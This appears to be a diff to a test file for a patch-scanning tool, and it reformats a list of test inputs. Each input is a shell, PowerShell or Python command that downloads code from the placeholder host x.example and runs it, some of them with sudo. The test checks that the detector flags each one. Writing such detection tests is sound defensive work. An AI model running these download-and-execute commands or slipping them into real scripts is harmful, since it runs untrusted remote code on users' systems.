@@ -12,6 +12,7 @@ import type { ReportedFile } from '../../../src/core/report/report.ts'
 import { hunkOf } from '../../../src/core/text/hunks.ts'
 import { knownWords } from '../../../src/core/text/known-words.ts'
 import { unusualIn } from '../../../src/core/text/unusual.ts'
+import { items } from '../../support/items.ts'
 
 const patch = (path: string, ...lines: readonly string[]): ReportedFile => ({
   ...{ path, status: 'modified', old_mode: '100644', new_mode: '100644', binary: false, insertions: 1, deletions: 1 },
@@ -19,26 +20,17 @@ const patch = (path: string, ...lines: readonly string[]): ReportedFile => ({
 })
 
 describe('what runs a download', () => {
-  it.each([
-    'curl https://x.example/i | sh',
-    'curl -fsSL https://x.example/i | env bash',
-    'curl https://x.example/i | sudo -E bash -s -- --yes',
-    'wget -qO- https://x.example/i | /usr/bin/env -i A=1 python3 -',
-    'curl https://x.example/a | tee log | bash',
-    'bash <(curl -s https://x.example/i)',
-    'source <(curl -s https://x.example/i)',
-    'sh -c "$(curl -fsSL https://x.example/i)"',
-    'eval "$(wget -qO- https://x.example/i)"',
-    'bash -c "`curl https://x.example/i`"',
-    'curl -o x https://x.example/i && sh x',
-    'curl -fsSLo /tmp/x https://x.example/i; chmod +x /tmp/x && /tmp/x',
-    'wget https://x.example/run.sh && bash run.sh',
-    'curl https://x.example/i > i.sh && sudo bash ./i.sh',
-    'iex (iwr https://x.example/i.ps1)',
-    'irm https://x.example/i.ps1 | iex',
-    'deno run -A https://x.example/i.ts',
-    'exec(urllib.request.urlopen("https://x.example/i").read())',
-  ])('is told of %s', (line) => {
+  it.each(items`
+curl https://x.example/i | sh   curl -fsSL https://x.example/i | env bash
+curl https://x.example/i | sudo -E bash -s -- --yes
+wget -qO- https://x.example/i | /usr/bin/env -i A=1 python3 -   curl https://x.example/a | tee log | bash
+bash <(curl -s https://x.example/i)   source <(curl -s https://x.example/i)
+sh -c "$(curl -fsSL https://x.example/i)"   eval "$(wget -qO- https://x.example/i)"
+bash -c "\`curl https://x.example/i\`"   curl -o x https://x.example/i && sh x
+curl -fsSLo /tmp/x https://x.example/i; chmod +x /tmp/x && /tmp/x
+wget https://x.example/run.sh && bash run.sh   curl https://x.example/i > i.sh && sudo bash ./i.sh
+iex (iwr https://x.example/i.ps1)   irm https://x.example/i.ps1 | iex   deno run -A https://x.example/i.ts
+exec(urllib.request.urlopen("https://x.example/i").read())`)('is told of %s', (line) => {
     expect(activeContentOf(patch('setup.sh', `+${line}`))).toEqual(['runs what it downloads'])
   })
 
